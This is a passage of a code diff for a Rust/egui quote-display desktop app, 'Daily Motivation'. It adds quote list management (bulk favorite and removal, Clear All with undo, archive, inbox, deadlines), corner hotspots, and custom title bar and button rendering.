+            self.sub_text_undo.clear();
+            self.push_toast(
+                ToastKind::Error,
+                "The quotes changed since, so the sub text edit can't be undone",
+            );
+            return;
+        }
+        for (i, _, sub_text) in snapshot.changed {
+            self.quotes[i].sub_text = sub_text;
+        }
+        self.save();
+        self.push_toast(ToastKind::Info, "Sub text edit undone");
+    }
+
+    /// Make several quotes favorites (top rating), or put them back to the
+    /// default rating when they all are already
+    pub fn favorite_many(&mut self, indices: &[usize]) {
+        let quotes: Vec<usize> = indices
+            .iter()
+            .copied()
+            .filter(|&i| i < self.quotes.len())
+            .collect();
+        if quotes.is_empty() {
+            return;
+        }
+        let all_favorite = quotes.iter().all(|&i| self.quotes[i].rating >= MAX_RATING);
+        let rating = if all_favorite {
+            DEFAULT_RATING
+        } else {
+            MAX_RATING
+        };
+        for i in quotes {
+            self.quotes[i].rating = rating;
+        }
+        self.save();
+    }
+
+    /// Take the quotes at `indices` out of the active collection (in list
+    /// order), keeping the current, pinned and edited quote, history and
+    /// selection pointing at the same entries
+    fn take_quotes(&mut self, indices: &[usize]) -> Vec<Quote> {
+        let mut removed: Vec<usize> = indices
+            .iter()
+            .copied()
+            .filter(|&i| i < self.quotes.len())
+            .collect();
+        removed.sort_unstable();
+        removed.dedup();
+        if removed.is_empty() {
+            return Vec::new();
+        }
+
+        let mut taken = Vec::with_capacity(removed.len());
+        let mut kept = Vec::with_capacity(self.quotes.len() - removed.len());
+        for (i, quote) in std::mem::take(&mut self.quotes).into_iter().enumerate() {
+            if removed.binary_search(&i).is_ok() {
+                taken.push(quote);
+            } else {
+                kept.push(quote);
+            }
+        }
+        self.quotes = kept;
+
+        // Highest first, so each removal leaves the lower indices valid
+        for &index in removed.iter().rev() {
+            remap_history(&mut self.history, index);
+        }
+        let shift = |index: usize| index_after_removal(index, &removed);
+        self.subtitle_editing = self.subtitle_editing.and_then(shift);
+        self.note_editing = self.note_editing.and_then(shift);
+        self.editing_quote = self.editing_quote.and_then(shift);
+        // Taking the pinned quote releases the pin
+        self.pinned_quote = self.pinned_quote.and_then(shift);
+        self.daily_quote = self
+            .daily_quote
+            .and_then(|d| shift(d.index).map(|index| DailyQuote { index, ..d }));
+        self.list_selection = self
+            .list_selection
+            .iter()
+            .filter_map(|&i| shift(i))
+            .collect();
+        // The current quote keeps its place; if it went, the next one takes over
+        let current = self.current_quote_index;
+        self.current_quote_index = self
+            .pinned_quote
+            .unwrap_or(current - removed.partition_point(|&r| r < current))
+            .min(self.quotes.len().saturating_sub(1));
+        taken
+    }
+
+    /// Empty the active collection. Nothing is written for CLEAR_GRACE, while
+    /// a toast offers to undo it; `commit_clear` then archives the quotes.
+    pub fn clear_quotes(&mut self) {
+        // A second clear inside the grace period settles the first
+        self.commit_clear();
+        let count = self.quotes.len();
+        self.pending_clear = Some(PendingClear {
+            collection: self.active_collection,
+            quotes: std::mem::take(&mut self.quotes),
+            current_quote_index: self.current_quote_index,
+            pinned_quote: self.pinned_quote.take(),
+            history: std::mem::take(&mut self.history),
+            at: Instant::now(),
+        });
+        self.current_quote_index = 0;
+        self.subtitle_editing = None;
+        self.note_editing = None;
+        self.editing_quote = None;
+        self.list_selection.clear();
+        let mut toast = Toast::new(ToastKind::Info, clear_countdown(count, CLEAR_GRACE))
+            .with_actions(vec![ToastAction::UndoClear, ToastAction::CommitClear]);
+        toast.duration = CLEAR_GRACE;
+        self.toasts.push(toast);
+    }
+
+    /// Count down the Clear All grace period, writing the clear once it's over
+    /// (cheap; called every frame)
+    pub fn update_pending_clear(&mut self) {
+        let Some(clear) = &self.pending_clear else {
+            return;
+        };
+        let left = CLEAR_GRACE.saturating_sub(clear.at.elapsed());
+        if left.is_zero() {
+            self.commit_clear();
+            return;
+        }
+        let message = clear_countdown(clear.quotes.len(), left);
+        for toast in self.toasts.iter_mut() {
+            if toast.actions.contains(&ToastAction::UndoClear) {
+                toast.message.clone_from(&message);
+            }
+        }
+    }
+
+    /// Put a pending Clear All back, in front of anything added since
+    pub fn undo_clear(&mut self) {
+        let Some(clear) = self.pending_clear.take() else {
+            return;
+        };
+        self.toasts
+            .retain(|t| !t.actions.contains(&ToastAction::UndoClear));
+        let added = std::mem::take(&mut self.quotes);
+        self.quotes = clear.quotes.into_iter().chain(added).collect();
+        self.current_quote_index = clear.current_quote_index;
+        self.pinned_quote = clear.pinned_quote;
+        self.history = clear.history;
+        self.push_toast(ToastKind::Success, "Clear All undone");
+    }
+
+    /// Write a pending Clear All now: archive its quotes and save
+    pub fn commit_clear(&mut self) {
+        let Some(clear) = self.pending_clear.take() else {
+            return;
+        };
+        self.toasts
+            .retain(|t| !t.actions.contains(&ToastAction::UndoClear));
+        self.archive_quotes(clear.quotes);
+        self.save();
+    }
+
+    /// Append to the archive, evicting the oldest entries past the cap
+    fn archive_quotes(&mut self, quotes: Vec<Quote>) {
+        self.archived.extend(quotes);
+        if self.archived.len() > ARCHIVE_LIMIT {
+            let excess = self.archived.len() - ARCHIVE_LIMIT;
+            self.archived.drain(..excess);
+        }
+    }
+
+    /// Move an archived quote back into the active collection
+    pub fn restore_archived(&mut self, index: usize) {
+        if index < self.archived.len() {
+            let quote = self.archived.remove(index);
+            self.quotes.push(quote);
+            self.save();
+        }
+    }
+
+    /// Permanently remove an archived quote
+    pub fn purge_archived(&mut self, index: usize) {
+        if index < self.archived.len() {
+            self.archived.remove(index);
+            self.save();
+        }
+    }
+
+    /// Hold incoming quotes in the INBOX instead of the rotation
+    pub fn queue_pending(&mut self, mut quotes: Vec<Quote>) {
+        let count = quotes.len();
+        for quote in quotes.iter_mut() {
+            self.clean_quote(quote);
+            quote.source_url = quote.source_url().map(str::to_string);
+        }
+        self.pending.extend(quotes);
+        self.save();
+        self.push_toast(
+            ToastKind::Info,
+            format!(
+                "{} waiting in the INBOX ({} total)",
+                count,
+                self.pending.len()
+            ),
+        );
+    }
+
+    /// Move a pending quote into the `inbox_target` collection
+    pub fn approve_pending(&mut self, index: usize) {
+        if index >= self.pending.len() {
+            return;
+        }
+        let mut quote = self.pending.remove(index);
+        if quote.sub_text.is_empty() {
+            quote.sub_text = self.default_sub_text.clone();
+        }
+        match self.inbox_target {
+            target if target == self.active_collection => self.quotes.push(quote),
+            target => match self.collections.get_mut(target) {
+                Some(collection) => collection.quotes.push(quote),
+                None => self.quotes.push(quote),
+            },
+        }
+        self.inbox_edit = None;
+        self.save();
+    }
+
+    /// Drop a pending quote into the recycle bin
+    pub fn reject_pending(&mut self, index: usize) {
+        if index < self.pending.len() {
+            let quote = self.pending.remove(index);
+            self.archive_quotes(vec![quote]);
+            self.inbox_edit = None;
+            self.save();
+        }
+    }
+
+    /// Add a deadline and keep the list sorted by date
+    pub fn add_deadline(&mut self, label: String, at: chrono::NaiveDateTime) {
+        self.deadlines.push(Deadline { label, at });
+        self.deadlines.sort_by_key(|d| d.at);
+        self.save();
+    }
+
+    /// Remove a deadline by index
+    pub fn remove_deadline(&mut self, index: usize) {
+        if index < self.deadlines.len() {
+            self.deadlines.remove(index);
+            self.save();
+        }
+    }
+
+    /// The deadline to feature above the quote: the nearest upcoming one,
+    /// or the most recently passed one if all are in the past
+    pub fn featured_deadline(&self, now: chrono::NaiveDateTime) -> Option<&Deadline> {
+        self.deadlines
+            .iter()
+            .filter(|d| d.at >= now)
+            .min_by_key(|d| d.at)
+            .or_else(|| self.deadlines.iter().max_by_key(|d| d.at))
+    }
+
+    /// Track the pointer over the window's corner hotspots and return the
+    /// action of the one that fired this frame. Hover fires once per visit.
+    pub fn poll_hotspots(&mut self, ctx: &Context) -> AppAction {
+        let (pos, clicked, double_clicked) = ctx.input(|i| {
+            (
+                i.pointer.hover_pos(),
+                i.pointer.primary_clicked(),
+                i.pointer
+                    .button_double_clicked(egui::PointerButton::Primary),
+            )
+        });
+        // Inside the resize border, and below the title bar so the top
+        // corners stay clear of its buttons
+        let mut area = ctx.screen_rect().shrink(RESIZE_BORDER);
+        if self.title_bar_state.header_visible
+            && !self.presentation_mode
+            && self.display_mode == DisplayMode::Normal
+        {
+            area.min.y = area.min.y.max(ctx.screen_rect().min.y + TITLE_BAR_HEIGHT);
+        }
+        let hit = pos.and_then(|pos| {
+            ScreenCorner::ALL
+                .into_iter()
+                .zip(self.hotspots)
+                .find(|(c, _)| c.region(area, HOTSPOT_SIZE).contains(pos))
+        });
+        let Some((corner, spot)) = hit else {
+            self.hotspot_dwell = None;
+            return AppAction::None;
+        };
+        if spot.action == AppAction::None {
+            return AppAction::None;
+        }
+        let (since, fired) = match self.hotspot_dwell {
+            Some((c, since, fired)) if c == corner => (since, fired),
+            _ => (Instant::now(), false),
+        };
+        self.hotspot_dwell = Some((corner, since, fired));
+
+        let fire = match spot.trigger {
+            HotspotTrigger::Hover if !fired => {
+                let rested = since.elapsed();
+                if rested < HOTSPOT_DWELL {
+                    ctx.request_repaint_after(HOTSPOT_DWELL - rested);
+                }
+                rested >= HOTSPOT_DWELL
+            }
+            HotspotTrigger::Hover => false,
+            HotspotTrigger::Click => clicked,
+            HotspotTrigger::DoubleClick => double_clicked,
+        };
+        if fire {
+            self.hotspot_dwell = Some((corner, since, true));
+            spot.action
+        } else {
+            AppAction::None
+        }
+    }
+
+    /// Horizontal offset of the quote while it slides in after a swipe
+    pub fn slide_offset(&self, width: f32) -> f32 {
+        let Some((direction, started)) = self.quote_slide else {
+            return 0.0;
+        };
+        let t = started.elapsed().as_secs_f32() / SLIDE_DURATION.as_secs_f32();
+        if t >= 1.0 {
+            return 0.0;
+        }
+        direction * width * SLIDE_FRACTION * (1.0 - ease_out_cubic(t))
+    }
+
+    /// Whether the control panel is on screen (never in presentation or mini mode)
+    pub fn panel_shown(&self) -> bool {
+        self.title_bar_state.control_panel_visible
+            && !self.presentation_mode
+            && self.display_mode == DisplayMode::Normal
+    }
+
+    /// Queue a toast notification
+    pub fn push_toast(&mut self, kind: ToastKind, message: impl Into<String>) {
+        self.toasts.push(Toast::new(kind, message));
+    }
+
+    /// Get background color (interpolated gradient or solid)
+    pub fn get_background_color(&self) -> Color32 {
+        if self.is_3d_bg_active || self.backdrop_active {
+            return Color32::TRANSPARENT;
+        }
+
+        if self.theme.mode == ThemeMode::Solid {
+            return self.theme.solid_color;
+        }
+
+        // For gradient, return the first color as base
+        // Full gradient would need shader support in wgpu
+        self.theme
+            .gradient_colors
+            .first()
+            .copied()
+            .unwrap_or(CANVAS_BG)
+    }
+}
+
+// =============================================================================
+// BUTTON RENDERER
+// =============================================================================
+
+/// Small count bubble on the top-right corner of `rect` (e.g. INBOX items
+/// waiting), faded along with the button under it
+fn paint_count_badge(ui: &egui::Ui, rect: Rect, count: usize, opacity: f32) {
+    let text = if count > 99 {
+        "99+".to_string()
+    } else {
+        count.to_string()
+    };
+    let center = rect.right_top() + Vec2::new(-2.0, 2.0);
+    let radius = if text.len() > 1 { 7.5 } else { 6.0 };
+    let painter = ui.painter();
+    painter.circle_filled(center, radius, NEON_ROSE.linear_multiply(opacity));
+    painter.text(
+        center,
+        egui::Align2::CENTER_CENTER,
+        text,
+        FontId::proportional(8.5),
+        Color32::WHITE.linear_multiply(opacity),
+    );
+}
+
+pub fn draw_icon_button(
+    ui: &mut egui::Ui,
+    icon: &TitleBarIcon,
+    _bg_color: Color32,
+    fg_color: Color32,
+    _hovered: bool,
+    accent: Color32,
+) -> egui::Response {
+    let size = Vec2::new(icon.width + 6.0, TITLE_BAR_HEIGHT - 2.0);
+    let (rect, response) = ui.allocate_exact_size(size, Sense::click());
+
+    if response.hovered() {
+        ui.ctx().set_cursor_icon(egui::CursorIcon::PointingHand);
+    }
+
+    let is_hovered = response.hovered();
+
+    // Outer glow border on hover
+    if is_hovered {
+        let glow_rect = rect.expand(2.0);
+        ui.painter()
+            .rect_filled(glow_rect, Rounding::same(8.0), accent.gamma_multiply(0.12));
+        ui.painter().rect_stroke(
+            glow_rect,
+            Rounding::same(8.0),
+            Stroke::new(1.0, accent.gamma_multiply(0.47)),
+        );
+    }
+
+    // Main button background — glass morphism
+    let bg = if is_hovered {
+        accent.gamma_multiply(0.11)
+    } else {
+        BG_GLASS
+    };
+    ui.painter().rect_filled(rect, Rounding::same(6.0), bg);
+
+    // Subtle top-edge highlight (glass rim)
+    let top_line = [
+        egui::pos2(rect.left() + 4.0, rect.top() + 1.0),
+        egui::pos2(rect.right() - 4.0, rect.top() + 1.0),
+    ];
+    ui.painter().line_segment(
+        top_line,
+        Stroke::new(
+            1.0,
+            if is_hovered {
+                accent.gamma_multiply(0.7)
+            } else {
+                Color32::from_rgba_premultiplied(255, 255, 255, 25)
+            },
+        ),
+    );
+
+    // Icon
+    let icon_color = if is_hovered { accent } else { fg_color };
+    ui.painter().text(
+        rect.center(),
+        egui::Align2::CENTER_CENTER,
+        icon.symbol,
+        FontId::proportional(icon.font_size),
+        icon_color,
+    );
+
+    response
+}
+
+pub fn draw_text_button(
+    ui: &mut egui::Ui,
+    text: &str,
+    bg_color: Color32,
+    width: f32,
+    height: f32,
+    accent: Color32,
+) -> egui::Response {
+    let size = Vec2::new(width, height);
+    let (rect, response) = ui.allocate_exact_size(size, Sense::click());
+
+    if response.hovered() {
+        ui.ctx().set_cursor_icon(egui::CursorIcon::PointingHand);
+    }
+
+    let is_hovered = response.hovered();
+    let is_clicked = response.is_pointer_button_down_on();
+
+    // Accent glow halo on hover
+    if is_hovered {
+        ui.painter().rect_filled(
+            rect.expand(3.0),
+            Rounding::same(8.0),
+            Color32::from_rgba_unmultiplied(accent.r(), accent.g(), accent.b(), 18),
+        );
+        ui.painter().rect_stroke(
+            rect.expand(3.0),
+            Rounding::same(8.0),
+            Stroke::new(0.5, accent.gamma_multiply(0.35)),
+        );
+    }
+
+    // Background with glass sheen
+    let bg = if is_clicked {
+        bg_color.linear_multiply(1.4)
+    } else if is_hovered {
+        bg_color.linear_multiply(1.15)
+    } else {
+        bg_color.linear_multiply(0.75)
+    };
+
+    ui.painter().rect_filled(rect, Rounding::same(6.0), bg);
+
+    // Top highlight rim
+    ui.painter().line_segment(
+        [
+            egui::pos2(rect.left() + 6.0, rect.top() + 1.0),
+            egui::pos2(rect.right() - 6.0, rect.top() + 1.0),
+        ],
+        Stroke::new(
+            1.0,
+            Color32::from_rgba_unmultiplied(255, 255, 255, if is_hovered { 60 } else { 20 }),
+        ),
+    );
+
+    // Border
+    ui.painter().rect_stroke(
+        rect,
+        Rounding::same(6.0),
+        Stroke::new(
+            1.0,
+            if is_hovered {
+                Color32::from_rgba_unmultiplied(bg_color.r(), bg_color.g(), bg_color.b(), 200)
+            } else {
+                Color32::from_rgba_unmultiplied(bg_color.r(), bg_color.g(), bg_color.b(), 80)
+            },
+        ),
+    );
+
+    // Label with shadow behind for visibility (Year 50k panel)
+    let center = rect.center();
+    let font_id = FontId::proportional(11.5);
+    let shadow = Color32::from_black_alpha(130);
+    let offsets: [Vec2; 8] = [
+        Vec2::new(0.5, 0.0),
+        Vec2::new(-0.5, 0.0),
+        Vec2::new(0.0, 0.5),
+        Vec2::new(0.0, -0.5),
+        Vec2::new(0.5, 0.5),
+        Vec2::new(-0.5, 0.5),
+        Vec2::new(0.5, -0.5),
+        Vec2::new(-0.5, -0.5),
+    ];
+    for offset in offsets {
+        ui.painter().text(
+            center + offset,
+            egui::Align2::CENTER_CENTER,
+            text,
+            font_id.clone(),
+            shadow,
+        );
+    }
+    ui.painter().text(
+        center,
+        egui::Align2::CENTER_CENTER,
+        text,
+        font_id,
+        Color32::WHITE,
+    );
+
+    response
+}
+
+/// Draw text with a glow/shadow behind it for better visibility on dark backgrounds.
+/// Uses multiple offset draws in `shadow_or_glow_color` then the main text in `main_color`.
+fn label_with_glow(
+    ui: &mut egui::Ui,
+    text: &str,
+    main_color: Color32,
+    size: f32,
+    shadow_or_glow_color: Color32,
+    align: egui::Align2,
+) -> egui::Response {
+    let font_id = FontId::proportional(size);
+    // Approximate size for allocation (avoids layout API differences across egui versions)
+    let approx_w = (text.len() as f32 * size * 0.55).max(20.0) + 2.0;
+    let approx_h = size * 1.8 + 2.0;
+    let allocate_size = Vec2::new(approx_w, approx_h);
+    let (rect, response) = ui.allocate_exact_size(allocate_size, Sense::hover());
+    let pos = match align {
+        egui::Align2::LEFT_CENTER => rect.left_center() + Vec2::new(0.0, -1.0),
+        egui::Align2::RIGHT_CENTER => rect.right_center() - Vec2::new(0.0, 1.0),
+        _ => rect.center() - Vec2::new(0.0, 1.0),
+    };
+    let offsets: [Vec2; 8] = [
+        Vec2::new(0.5, 0.0),
+        Vec2::new(-0.5, 0.0),
+        Vec2::new(0.0, 0.5),
+        Vec2::new(0.0, -0.5),
+        Vec2::new(0.5, 0.5),
+        Vec2::new(-0.5, 0.5),
+        Vec2::new(0.5, -0.5),
+        Vec2::new(-0.5, -0.5),
+    ];
+    for offset in offsets {
+        ui.painter().text(
+            pos + offset,
+            align,
+            text,
+            font_id.clone(),
+            shadow_or_glow_color,
+        );
+    }
+    ui.painter().text(pos, align, text, font_id, main_color);
+    response
+}
+
+// =============================================================================
+// TITLE BAR RENDERER
+// =============================================================================
+
+/// Render the complete title bar with all icons
+pub fn render_title_bar(
+    ctx: &Context,
+    state: &mut AppState,
+    window: &Window,
+) -> Vec<TitleBarAction> {
+    if !state.title_bar_state.header_visible
+        || state.presentation_mode
+        || state.display_mode == DisplayMode::Mini
+    {
+        return Vec::new();
+    }
+
+    let mut actions = Vec::new();
+
+    let titlebar_bg = ui_shade(&ctx.style().visuals, 26);
+    let fg = ui_fg(&ctx.style().visuals);
+    let accents = state.theme.accents();
+    let accent = accents.primary;
+
+    TopBottomPanel::top("title_bar")
+        .exact_height(TITLE_BAR_HEIGHT)
+        .frame(Frame::none().fill(titlebar_bg))
+        .show(ctx, |ui| {
+            let rect = ui.max_rect();
+
+            // ── HUD Elements ──
+            ui.painter().line_segment(
+                [rect.left_top(), rect.right_top()],
+                Stroke::new(1.5, accent.gamma_multiply(0.78)),
+            );
+            ui.painter().line_segment(
+                [
+                    egui::pos2(rect.left(), rect.top() + 3.0),
+                    egui::pos2(rect.right(), rect.top() + 3.0),
+                ],
+                Stroke::new(0.5, accent.gamma_multiply(0.15)),
+            );
+
+            let b = 8.0;
+            let stroke = Stroke::new(1.5, accent.gamma_multiply(0.63));
+            ui.painter().line_segment(
+                [
+                    egui::pos2(rect.left(), rect.top()),
+                    egui::pos2(rect.left() + b, rect.top()),
+                ],
+                stroke,
+            );
+            ui.painter().line_segment(
+                [
+                    egui::pos2(rect.left(), rect.top()),
+                    egui::pos2(rect.left(), rect.bottom()),
+                ],
+                stroke,
+            );
+            ui.painter().line_segment(
+                [
+                    egui::pos2(rect.right() - b, rect.top()),
+                    egui::pos2(rect.right(), rect.top()),
+                ],
+                stroke,
+            );
+            ui.painter().line_segment(
+                [
+                    egui::pos2(rect.right(), rect.top()),
+                    egui::pos2(rect.right(), rect.bottom()),
+                ],
+                stroke,
+            );
+
+            ui.with_layout(egui::Layout::left_to_right(egui::Align::Center), |ui| {
+                ui.spacing_mut().item_spacing = Vec2::new(4.0, 0.0);
+                ui.add_space(12.0);
+
+                ui.label(
+                    RichText::new(icons::APP_ICON.symbol)
+                        .size(15.0)
+                        .color(accent),
+                );
+                ui.label(
+                    RichText::new("DAILY  MOTIVATION")
+                        .color(accent)
+                        .strong()
+                        .size(12.0),
+                );
+
+                ui.add_space(4.0);
+                let (br, _) = ui.allocate_exact_size(Vec2::new(38.0, 14.0), Sense::hover());
+                ui.painter()
+                    .rect_filled(br, Rounding::same(3.0), accent.gamma_multiply(0.08));
+                ui.painter().rect_stroke(
+                    br,
+                    Rounding::same(3.0),
+                    Stroke::new(0.5, accent.gamma_multiply(0.31)),
+                );
+                ui.painter().text(
+                    br.center(),
+                    egui::Align2::CENTER_CENTER,
+                    "v∞.0",
+                    FontId::proportional(8.5),
+                    accent.gamma_multiply(0.7),
+                );
+
+                ui.add_space(8.0);
+                if !state.quotes.is_empty() {
+                    let counter = format!(
+                        "[ {}/{} ]",
+                        state.current_quote_index + 1,
+                        state.quotes.len()
+                    );
+                    ui.label(
+                        RichText::new(state.numeral_system.digits(&counter))
+                            .color(accents.secondary.gamma_multiply(0.7))
+                            .size(10.5),
+                    );
+                }
+
+                if state.low_power_active {
+                    ui.add_space(6.0);
+                    ui.label(RichText::new("⚡").color(NEON_SOLAR).size(11.0))
+                        .on_hover_text(if state.on_battery == Some(true) {
+                            "Low power mode: on battery"
+                        } else {
+                            "Low power mode"
+                        });
+                }
+
+                ui.with_layout(egui::Layout::right_to_left(egui::Align::Center), |ui| {
+                    ui.spacing_mut().item_spacing = Vec2::new(3.0, 0.0);
+                    ui.add_space(6.0);
+
+                    // Right-side buttons
+                    let btns = [
+                        (&icons::CLOSE, NEON_ROSE, TitleBarAction::CloseClicked),
+                        (
+                            if is_maximized(window, state) {
+                                &icons::RESTORE
+                            } else {
+                                &icons::MAXIMIZE
+                            },
+                            fg,
+                            TitleBarAction::MaximizeClicked,
+                        ),
+                        (&icons::MINIMIZE, fg, TitleBarAction::MinimizeClicked),
+                    ];
+
+                    for (icon, color, action) in btns {
+                        let resp =
+                            draw_icon_button(ui, icon, Color32::TRANSPARENT, color, false, accent);
+                        if resp.clicked() {
+                            actions.push(action);
+                        }
+                        // Right-click on maximize: size presets, the ratio lock
+                        // and always-on-top
+                        if action == TitleBarAction::MaximizeClicked {
+                            resp.context_menu(|ui| {
+                                if let Some(preset) = window_size_menu(ui, state) {
+                                    actions.push(TitleBarAction::SizePreset(preset));
+                                }
+                                let mut on_top = state.always_on_top;
+                                if ui.checkbox(&mut on_top, "Always on top").changed() {
+                                    actions.push(TitleBarAction::ToggleAlwaysOnTop);
+                                    ui.close_menu();
+                                }
+                                if ui
+                                    .button("Click-through")
+                                    .on_hover_text(format!(
+                                        "Mouse input goes to the apps underneath; {} turns it off",
+                                        CLICK_THROUGH_HOTKEY_LABEL
+                                    ))
+                                    .clicked()
+                                {
+                                    actions.push(TitleBarAction::ToggleClickThrough);
+                                    ui.close_menu();
+                                }
+                                ui.separator();
+                                if ui.button("Return home (Ctrl+Home)").clicked() {
+                                    actions.push(TitleBarAction::ReturnHome);
+                                    ui.close_menu();
+                                }
+                                if ui.button("Set current position as home").clicked() {
+                                    actions.push(TitleBarAction::SetHome);
+                                    ui.close_menu();
+                                }
+                            });
+                        }
+                    }
+
+                    // Pin: lit while the window stays above other apps
+                    let pin_color = if state.always_on_top {
+                        accent
+                    } else {
+                        fg.gamma_multiply(0.5)
+                    };
+                    let pin = draw_icon_button(
+                        ui,
+                        &icons::ALWAYS_ON_TOP,
+                        Color32::TRANSPARENT,
+                        pin_color,
+                        state.always_on_top,
+                        accent,
+                    );
+                    if pin
+                        .on_hover_text(if state.always_on_top {
+                            "Always on top: on"
+                        } else {
+                            "Always on top: off"
+                        })
+                        .clicked()
+                    {
+                        actions.push(TitleBarAction::ToggleAlwaysOnTop);
+                    }
+
+                    if draw_icon_button(
+                        ui,
+                        &icons::HIDE_HEADER,
+                        Color32::TRANSPARENT,
+                        fg,
+                        false,
+                        accent,
+                    )
+                    .clicked()
+                    {
+                        actions.push(TitleBarAction::HideHeader);
+                    }
+
+                    // Optional groups; drawn right to left, so walk the list backwards
+                    let items = state.title_bar_items.clone();
+                    let mut button = |ui: &mut egui::Ui,
+                                      icon: &TitleBarIcon,
+                                      color: Color32,
+                                      active: bool,
+                                      action: TitleBarAction| {
+                        if draw_icon_button(ui, icon, Color32::TRANSPARENT, color, active, accent)
+                            .clicked()
+                        {
+                            actions.push(action);
+                        }
+                    };
+                    for item in items.iter().rev().filter(|i| i.visible) {
+                        ui.add_space(item.group.leading_gap());
+                        match item.group {
+                            TitleBarGroup::Animations => {
+                                let anim_btns = [
+                                    (&icons::ANIM_FLY, TitleBarAction::PlayFly, AppAnimation::Fly),
+                                    (
+                                        &icons::ANIM_DISSOLVE,
+                                        TitleBarAction::PlayDissolve,
+                                        AppAnimation::Dissolve,
+                                    ),
+                                    (
+                                        &icons::ANIM_ROTATE,
+                                        TitleBarAction::PlayRotate,
+                                        AppAnimation::Rotate,
+                                    ),
+                                    (
+                                        &icons::ANIM_DANCE,
+                                        TitleBarAction::PlayDance,
+                                        AppAnimation::Dance,
+                                    ),
+                                    (
+                                        &icons::ANIM_SHAKE,
+                                        TitleBarAction::PlayShake,
+                                        AppAnimation::Shake,
+                                    ),
+                                    (
+                                        &icons::ANIM_BOUNCE,
+                                        TitleBarAction::PlayBounce,
+                                        AppAnimation::Bounce,
+                                    ),
+                                ];
+                                for (icon, action, anim_type) in anim_btns {
+                                    let active = state.active_animation == anim_type;
+                                    let color = if active { accents.secondary } else { fg };
+                                    button(ui, icon, color, active, action);
+                                }
+                            }
+                            TitleBarGroup::Background3d => {
+                                let bg_color = if state.is_3d_bg_active {
+                                    accent
+                                } else {
+                                    Color32::from_rgba_premultiplied(255, 255, 255, 150)
+                                };
+                                button(
+                                    ui,
+                                    &icons::TOGGLE_BG,
+                                    bg_color,
+                                    false,
+                                    TitleBarAction::ToggleBg,
+                                );
+                            }
+                            TitleBarGroup::Zoom => {
+                                button(ui, &icons::ZOOM_IN, fg, false, TitleBarAction::ZoomIn);
+                                button(ui, &icons::ZOOM_OUT, fg, false, TitleBarAction::ZoomOut);
+                            }
+                            TitleBarGroup::Export => {
+                                button(
+                                    ui,
+                                    &icons::SAVE_IMAGE,
+                                    fg,
+                                    false,
+                                    TitleBarAction::SaveImageClicked,
+                                );
+                                button(
+                                    ui,
+                                    &icons::EXPORT,
+                                    fg,
+                                    false,
+                                    TitleBarAction::ExportClicked,
+                                );
+                            }
+                            TitleBarGroup::Theme => {
+                                button(ui, &icons::THEME, fg, false, TitleBarAction::ThemeClicked);
+                            }
+                            TitleBarGroup::ViewModes => {
+                                button(
+                                    ui,
+                                    &icons::PRESENTATION,
+                                    fg,
+                                    false,
+                                    TitleBarAction::PresentationClicked,
+                                );
+                                button(ui, &icons::MINI, fg, false, TitleBarAction::MiniClicked);
+                            }
+                        }
+                    }
+
+                    let drag_avail = ui.available_width();
+                    if drag_avail > 0.0 {
+                        let (drag_rect, _) = ui.allocate_exact_size(
+                            Vec2::new(drag_avail, TITLE_BAR_HEIGHT),
+                            Sense::hover(),
+                        );
+                        let resp = ui.interact(
+                            drag_rect,
+                            window_drag_id("title_bar"),
+                            Sense::click_and_drag(),
+                        );
+                        if resp.double_clicked() {
+                            actions.push(TitleBarAction::MaximizeClicked);
+                        } else if resp.drag_started() {
+                            // Like a native title bar: the drag un-maximizes first
+                            if is_maximized(window, state) {
+                                restore_for_drag(window, state);
+                            }
+                            state.cancel_attention_shake();
+                            let _ = window.drag_window();
+                        }
+                        resp.context_menu(|ui| {
+                            if title_bar_items_menu(ui, &mut state.title_bar_items) {
+                                state.save();
+                            }
+                        });
+                    }
+                });
+            });
+            actions
+        })
+        .inner
+}
+
+/// Bulk action bar over the TEXT LIST selection. Each action is one
+/// `AppState` call, so it changes the list in a single step.
+fn render_bulk_actions(ui: &mut egui::Ui, state: &mut AppState, accents: Accents) {
+    let selected: Vec<usize> = state.list_selection.iter().copied().collect();
+    egui::Frame::none()
+        .fill(Color32::from_black_alpha(40))
+        .stroke(Stroke::new(1.0, accents.primary.gamma_multiply(0.3)))
+        .rounding(Rounding::same(4.0))
+        .inner_margin(Vec2::new(6.0, 6.0))
+        .show(ui, |ui| {
+            ui.horizontal_wrapped(|ui| {
+                let delete =
+                    egui::Button::new(RichText::new("Delete").color(Color32::WHITE).size(10.0))
+                        .fill(Color32::from_rgb(255, 70, 70));
+                if ui
+                    .add(delete)
+                    .on_hover_text("Moves them to the archive")
+                    .clicked()
+                {
+                    state.delete_many(&selected);
+                    state.list_selection.clear();
+                }
+                if ui
+                    .small_button(RichText::new("★ Favorite").color(NEON_SOLAR))
+                    .on_hover_text("Top rating; again to put them back to the default")
+                    .clicked()
+                {
+                    state.favorite_many(&selected);
+                }
+                if ui.small_button("Export…").clicked() {
+                    pick_export_selected(state);
+                }
+                let others: Vec<(usize, String)> = state
+                    .collections
+                    .iter()
+                    .enumerate()
+                    .filter(|(i, _)| *i != state.active_collection)
+                    .map(|(i, c)| (i, c.name.clone()))
+                    .collect();
+                ui.add_enabled_ui(!others.is_empty(), |ui| {
+                    ui.menu_button("Move to ▸", |ui| {
+                        for (index, name) in others {
+                            if ui.button(name).clicked() {
+                                state.move_many(&selected, index);
+                                state.list_selection.clear();
+                                ui.close_menu();
+                            }
+                        }
+                    });
+                });
+            });
+            ui.horizontal(|ui| {
+                ui.add(
+                    egui::TextEdit::singleline(&mut state.bulk_tag_input)
+                        .hint_text("tag, tag…")
+                        .desired_width(110.0),
+                );
+                let tags = parse_tags(&state.bulk_tag_input);
+                ui.add_enabled_ui(!tags.is_empty(), |ui| {
+                    if ui.small_button("Add tag").clicked() {
+                        state.tag_many(&selected, &tags, true);
+                    }
+                    if ui.small_button("Remove tag").clicked() {
+                        state.tag_many(&selected, &tags, false);
+                    }
+                });
+            });
+        });
+}
+
+/// Contents of the maximize button's context menu; returns the preset picked
+fn window_size_menu(ui: &mut egui::Ui, state: &mut AppState) -> Option<WindowPreset> {
+    let mut picked = None;
+    for preset in WindowPreset::ALL {
+        let (w, h) = preset.size();
+        if ui
+            .button(format!("{}  {}×{}", preset.label(), w, h))
+            .clicked()
+        {
+            picked = Some(preset);
+            ui.close_menu();
+        }
+    }
+    ui.separator();
+    if ui
+        .checkbox(&mut state.lock_aspect_ratio, "Lock aspect ratio")
+        .on_hover_text("Border drags keep the current width:height ratio")
+        .changed()
+    {
+        state.save();
+    }
+    picked
+}
+
+/// Right-click menu on the title bar: show/hide and reorder the optional
+/// button groups. Returns true when the list changed.
+fn title_bar_items_menu(ui: &mut egui::Ui, items: &mut Vec<TitleBarItem>) -> bool {
+    let mut changed = false;
